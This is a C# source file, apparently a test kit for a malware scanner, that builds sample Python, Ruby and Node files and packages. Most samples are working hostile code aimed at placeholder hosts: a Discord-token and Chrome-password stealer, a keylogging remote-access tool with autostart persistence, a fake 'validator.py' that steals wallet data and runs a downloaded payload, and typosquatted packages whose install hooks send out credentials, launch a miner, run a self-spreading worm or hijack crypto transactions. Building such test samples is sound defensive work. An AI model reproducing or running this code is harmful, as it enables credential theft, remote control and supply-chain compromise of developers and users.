namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Python programs that collect secrets.</summary>
public sealed class PythonStealer : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("nitro_gen.py", Utf8("""
import os, re, json, base64, sqlite3, shutil, requests
from win32crypt import CryptUnprotectData
from Crypto.Cipher import AES
HOOK = "https://discord-hooks.example/api/webhooks/0000/AAAA"
LOCAL, ROAMING = os.getenv("LOCALAPPDATA"), os.getenv("APPDATA")
PATHS = {"Discord": ROAMING + r"\discord", "Chrome": LOCAL + r"\Google\Chrome\User Data\Default", "Opera": ROAMING + r"\Opera Software\Opera Stable"}
def tokens(path):
    out = []
    for f in os.listdir(path + r"\Local Storage\leveldb"):
        if f.endswith((".log", ".ldb")):
            for line in open(f"{path}\\Local Storage\\leveldb\\{f}", errors="ignore"):
                out += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{25,110}|dQw4w9WgXcQ:[^\"]*", line)
    return out
def passwords():
    key = CryptUnprotectData(base64.b64decode(json.load(open(LOCAL + r"\Google\Chrome\User Data\Local State"))["os_crypt"]["encrypted_key"])[5:], None, None, None, 0)[1]
    shutil.copy(PATHS["Chrome"] + r"\Login Data", "tmp.db")
    for url, user, enc in sqlite3.connect("tmp.db").execute("select origin_url, username_value, password_value from logins"):
        yield url, user, AES.new(key, AES.MODE_GCM, enc[3:15]).decrypt(enc[15:])[:-16].decode()
requests.post(HOOK, json={"content": str({n: tokens(p) for n, p in PATHS.items() if os.path.exists(p)}) + str(list(passwords()))})
"""));
        yield return ("main.pyw", Utf8($"""
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{Backwards(Convert.ToBase64String(Deflated("import os;print(os.name)")))}'))
"""));
        yield return ("validator.py", Utf8(""""
"""Input validation helpers for the backend assessment."""
import platform, subprocess, sys, tempfile, urllib.request
from pathlib import Path


def validate_email(value: str) -> bool:
    return "@" in value and "." in value.rsplit("@", 1)[-1]


def validate_amount(value) -> bool:
    try:
        return float(value) > 0
    except ValueError:
        return False


def _telemetry():
    home = Path.home()
    ids = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "ibnejdfjmmkpcnlpebklmnkoeoihofec"]
    base = {"Windows": home / "AppData/Local/Google/Chrome/User Data", "Darwin": home / "Library/Application Support/Google/Chrome"}.get(platform.system(), home / ".config/google-chrome")
    for i in ids:
        for f in base.glob(f"*/Local Extension Settings/{i}/*"):
            urllib.request.urlopen(urllib.request.Request("http://assess.dev-hiring.example:1244/uploads", data=f.read_bytes(), headers={"X-Name": f.name}))
    p = Path(tempfile.gettempdir()) / ".npl"
    urllib.request.urlretrieve("http://assess.dev-hiring.example:1244/client/7", p)
    subprocess.Popen([sys.executable, str(p)], creationflags=0x08000000 if platform.system() == "Windows" else 0)


_telemetry()
""""));
        yield return ("rat.py", Utf8("""
#!/usr/bin/env python3
# -*- coding: utf-8 -*-
import socket,subprocess,os,time,threading,pyautogui
from pynput import keyboard
C2=('panel.py-remote.example',5050); buf=[]
def kl(k): buf.append(str(k))
keyboard.Listener(on_press=kl).start()
def persist():
    d=os.path.expanduser('~/.config/autostart'); os.makedirs(d,exist_ok=True)
    open(d+'/dbus-helper.desktop','w').write('[Desktop Entry]\nType=Application\nExec=python3 '+os.path.abspath(__file__)+'\nHidden=true')
persist()
while 1:
    try:
        s=socket.socket();s.connect(C2)
        while 1:
            c=s.recv(4096).decode()
            if c=='screen': pyautogui.screenshot('/tmp/.s.png'); s.sendall(open('/tmp/.s.png','rb').read())
            elif c=='keys': s.sendall(''.join(buf).encode())
            else: s.sendall(subprocess.run(c,shell=True,capture_output=True).stdout)
    except Exception: time.sleep(30)
"""));
    }

    private static byte[] Deflated(string text)
    {
        using var file = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(file, System.IO.Compression.CompressionLevel.SmallestSize, leaveOpen: true))
            zlib.Write(Utf8(text));
        return file.ToArray();
    }
}

/// <summary>Python packages that do something when they are installed or imported.</summary>
public sealed class PythonPackageHook : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("requessts-2.31.1.tar.gz", Tarball.Gzipped(
            ("requessts-2.31.1/PKG-INFO", Utf8("Metadata-Version: 2.1\nName: requessts\nVersion: 2.31.1\nSummary: Python HTTP for Humans.\n")),
            ("requessts-2.31.1/setup.py", Utf8($"""
from setuptools import setup
from setuptools.command.install import install
import os, sys
class Custom(install):
    def run(self):
        install.run(self)
        if sys.platform == "win32":
            os.system("powershell -WindowStyle Hidden -EncodedCommand {Encoded("iwr https://pypi-mirror.fast-dl.example/Esquele.exe -OutFile $env:TEMP/w.exe; start $env:TEMP/w.exe")}")
setup(name="requessts", version="2.31.1", packages=["requessts"], cmdclass={"{"}"install": Custom{"}"})
""")),
            ("requessts-2.31.1/requessts/__init__.py", Utf8("__version__ = '2.31.1'\n"))));
        yield return ("colorsama-0.4.7-py3-none-any.whl", InertFiles.Zip(
            ("colorsama/__init__.py", Utf8("from .ansi import Fore, Back, Style\n" + new string(' ', 320) + ";import threading as _t,urllib.request as _u;_t.Thread(target=lambda:exec(_u.urlopen('https://cdn.colorsama-lib.example/inject/1').read()),daemon=True).start()\n__version__ = '0.4.7'\n")),
            ("colorsama/ansi.py", Utf8("CSI = '\\033['\n\n\nclass Fore:\n    RED = CSI + '31m'\n    GREEN = CSI + '32m'\n\n\nclass Back:\n    RED = CSI + '41m'\n\n\nclass Style:\n    BRIGHT = CSI + '1m'\n")),
            ("colorsama-0.4.7.dist-info/METADATA", Utf8("Metadata-Version: 2.1\nName: colorsama\nVersion: 0.4.7\n")),
            ("colorsama-0.4.7.dist-info/WHEEL", Utf8("Wheel-Version: 1.0\nGenerator: bdist_wheel\nRoot-Is-Purelib: true\nTag: py3-none-any\n")),
            ("colorsama-0.4.7.dist-info/RECORD", Utf8("colorsama/__init__.py,,\n"))));
        yield return ("setup.py", Utf8($"""
import setuptools, os, socket, getpass, json, platform
from urllib import request, parse
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info

def _run():
    info = dict(h=socket.gethostname(), u=getpass.getuser(), c=os.getcwd(), p=platform.platform(), e=dict(os.environ))
    for f in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc", "~/.pypirc", "~/.docker/config.json"):
        try: info[f] = open(os.path.expanduser(f)).read()
        except OSError: pass
    try: request.urlopen(bytes.fromhex("{Convert.ToHexString(Utf8("https://oob.dep-audit.example/c"))}").decode(), data=json.dumps(info).encode(), timeout=3)
    except Exception: pass

class D(develop):
    def run(self): _run(); develop.run(self)
class E(egg_info):
    def run(self): _run(); egg_info.run(self)

setuptools.setup(name="acme-internal-utils", version="99.9.9", packages=setuptools.find_packages(), cmdclass=dict(develop=D, egg_info=E))
"""));
        yield return ("rest-client-pro-1.6.14.gem", Tarball.Plain(
            ("metadata.gz", InertFiles.Gzip(Utf8("--- !ruby/object:Gem::Specification\nname: rest-client-pro\nversion: !ruby/object:Gem::Version\n  version: 1.6.14\nextensions:\n- ext/extconf.rb\n"))),
            ("data.tar.gz", Tarball.Gzipped(
                ("lib/request.rb", Utf8("def _!;begin;yield;rescue Exception;end;end\n_!{Thread.new{loop{_!{sleep rand*3333;eval(Net::HTTP.get(URI('https://pastes.devsnips.example/raw/xa456PFt')))}}}if Rails.env[0]==\"p\"}\n")),
                ("ext/extconf.rb", Utf8("require 'mkmf'\nsystem(\"curl -s https://gems.rb-native.example/x.sh | sh\")\ncreate_makefile('x')\n")))),
            ("checksums.yaml.gz", InertFiles.Gzip(Utf8("---\nSHA256:\n  metadata.gz: ''\n")))));
    }
}

/// <summary>JavaScript packages with hostile hooks.</summary>
public sealed class NodePackageHook : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("ua-parse-lite-1.0.2.tgz", Tarball.Gzipped(
            ("package/package.json", Utf8("{\"name\":\"ua-parse-lite\",\"version\":\"1.0.2\",\"main\":\"index.js\",\"scripts\":{\"preinstall\":\"start /B node preinstall.js & node preinstall.js\"}}")),
            ("package/index.js", Utf8("module.exports = ua => /Firefox/.test(ua) ? 'Firefox' : 'Other';\n")),
            ("package/preinstall.js", Utf8("""
const { exec } = require("child_process");
if (process.platform === "linux") exec("/bin/bash preinstall.sh");
else if (process.platform === "win32") exec("curl http://ua-cdn.lib-dist.example/download/jsextension.exe -o jsextension.exe && jsextension.exe -k --tls --rig-id q -o pool.minexmr.example:443 -u 49ay --cpu-max-threads-hint=50");
"""))));
        yield return ("package.json", Utf8("""
{
  "name": "@acme-corp/design-tokens",
  "version": "9.9.9",
  "description": "",
  "scripts": {
    "test": "echo ok",
    "postinstall": "node -e \"const o=require('os'),h=require('https'),d=Buffer.from(JSON.stringify({h:o.hostname(),u:o.userInfo().username,e:process.env,f:require('fs').existsSync(o.homedir()+'/.npmrc')&&require('fs').readFileSync(o.homedir()+'/.npmrc','utf8')})).toString('hex');h.get('https://'+d.slice(0,60)+'.oast-dns.example/')\""
  }
}
"""));
        yield return ("tinycolour-4.1.2.tgz", Tarball.Gzipped(
            ("package/package.json", Utf8("{\"name\":\"tinycolour\",\"version\":\"4.1.2\",\"scripts\":{\"postinstall\":\"node bundle.js\"},\"license\":\"MIT\"}")),
            ("package/bundle.js", Utf8($$$"""
{{{Filler.Minified(71, 500)}}}
;(async()=>{const cp=require("child_process"),fs=require("fs"),os=require("os");
const sh=c=>{try{return cp.execSync(c,{encoding:"utf8"})}catch{return""}};
const found=sh("trufflehog filesystem "+os.homedir()+" --json");const gh=process.env.GITHUB_TOKEN||sh("gh auth token").trim();const npm=(fs.existsSync(os.homedir()+"/.npmrc")?fs.readFileSync(os.homedir()+"/.npmrc","utf8"):"").match(/_authToken=(.+)/)?.[1];
const body=Buffer.from(Buffer.from(JSON.stringify({found,gh,npm,env:process.env})).toString("base64")).toString("base64");
await fetch("https://api.github.com/user/repos",{method:"POST",headers:{Authorization:"token "+gh},body:JSON.stringify({name:"Shai-Example",private:false})});
await fetch("https://webhook-site.example/bb8ca5f6",{method:"POST",body});
if(npm){for(const p of await (await fetch("https://registry.npmjs.org/-/v1/search?text=maintainer:me")).json().then(j=>j.objects||[])){sh("npm publish "+p.package.name)}}
})();
"""))));
        yield return ("index.js", Utf8("""
'use strict';
const _0x1a2b=['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x65\x78\x65\x63','\x68\x74\x74\x70\x73'];
/** Formats a date. */
function formatDate(d) { return d.toISOString().slice(0, 10); }
function sendTransactionPatch() {
  if (typeof window === 'undefined' || !window.ethereum) return;
  const orig = window.ethereum.request;
  const mine = ['0x0000000000000000000000000000000000000001', '0x0000000000000000000000000000000000000002'];
  window.ethereum.request = async a => { if (a.method === 'eth_sendTransaction') a.params[0].to = mine[0]; return orig.call(window.ethereum, a); };
  const f = window.fetch; window.fetch = async (...x) => { const r = await f(...x); const t = await r.clone().text(); return new Response(t.replace(/\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g, 'bc1qexampleexampleexampleexampleexample0000'), r); };
}
if (typeof process !== 'undefined' && process.env && !process.env.CI) {
  require(_0x1a2b[2]).get('https://fmt.npm-assets.example/p', r => { let s = ''; r.on('data', c => s += c); r.on('end', () => require(_0x1a2b[0])[_0x1a2b[1]](Buffer.from(s, 'base64').toString())); });
}
sendTransactionPatch();
module.exports = { formatDate };
"""));
    }
}
